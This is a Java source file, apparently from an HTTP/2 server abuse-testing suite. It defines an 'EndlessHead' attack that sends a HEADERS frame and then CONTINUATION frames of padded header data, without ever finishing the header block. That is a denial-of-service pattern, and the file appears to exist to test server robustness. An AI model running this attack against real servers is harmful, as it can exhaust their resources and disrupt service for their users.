package io.resound.abuse;

import java.nio.ByteBuffer;

import org.jspecify.annotations.Nullable;

/** A head of HTTP/2 in many frames, of which the last never comes. */
final class EndlessHead implements Attack {

	private static final int FRAMES = 15;

	@Override
	public String name() {
		return "HTTP/2: head of 15 CONTINUATION frames, never finished";
	}

	@Override
	public Script script() {
		return new Http2Script(Frames.INITIAL_WINDOW) {

			private final int stream = open();

			private int sent;

			@Override
			@Nullable ByteBuffer more() {
				if (this.sent == FRAMES) {
					return null;
				}
				int type = (this.sent == 0) ? Frames.HEADERS : Frames.CONTINUATION;
				this.sent++;
				return Frames.frame(type, 0, this.stream, new HeaderBlock().field("a", "x".repeat(1000)).bytes());
			}

		};
	}

}
